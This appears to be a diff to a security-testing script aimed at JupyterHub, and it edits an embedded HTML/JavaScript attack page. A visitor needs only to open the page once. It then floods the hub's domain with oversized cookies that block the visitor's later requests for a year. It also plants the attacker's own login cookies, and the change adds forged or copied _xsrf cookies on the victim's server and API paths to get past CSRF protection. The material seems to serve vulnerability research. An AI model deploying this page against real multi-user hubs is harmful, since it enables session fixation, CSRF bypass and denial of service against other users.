@@ -170,11 +170,12 @@ document.getElementById("show").onclick = async () => {
 """.replace("// NOTES\n", NOTES)
 
 # The walk's A4 and A5: a student's page, opened once (no click), sets cookies for the hub's
-# whole name: COOKIE_PAGE?hub=HUB&login=VALUE&victim=NAME sets thirty cookies of 3,800 bytes
+# whole name: COOKIE_PAGE?hub=HUB&login=VALUE&victim=NAME[&xsrf=X] sets thirty cookies of 3,800 bytes
 # (the bomb: 431 for every later request of the visitor, for a year), the same names on the
-# victim's paths, and login cookies of the student's own (VALUE: her own login cookie, copied
+# victim's paths, login cookies of the student's own (VALUE: her own login cookie, copied
 # from her browser) under the hub's names, with and without __Host- (which no browser lets a
-# page set for another name). The title becomes "done" with the number of cookies it set.
+# page set for another name), and an _xsrf cookie (`xsrf`: her own, copied; else a forged
+# one) on the hub's login path and on the victim's server's paths. The title becomes "done" with the number of cookies it set.
 COOKIE_PAGE = r"""<!doctype html>
 <html><head><title>cookies</title></head>
 <body>
@@ -193,7 +194,8 @@ for (const path of ["/", "/hub/", "/hub/home"]) {
   document.cookie = "jupyterhub-hub-login=" + login + scope + "; path=" + path;
   document.cookie = "__Host-jupyterhub-hub-login=" + login + scope + "; path=" + path;
 }
-document.cookie = "_xsrf=forged" + scope + "; path=/hub/";
+for (const path of ["/hub/", "/hub/login", "/user/" + victim + "/", "/user/" + victim + "/api/"])
+  document.cookie = "_xsrf=" + (query.get("xsrf") || "forged") + scope + "; path=" + path;
 document.cookie = "jupyterhub-session-id=forged" + scope + "; path=/";
 document.title = "done " + document.cookie.split(";").length;
 </script>
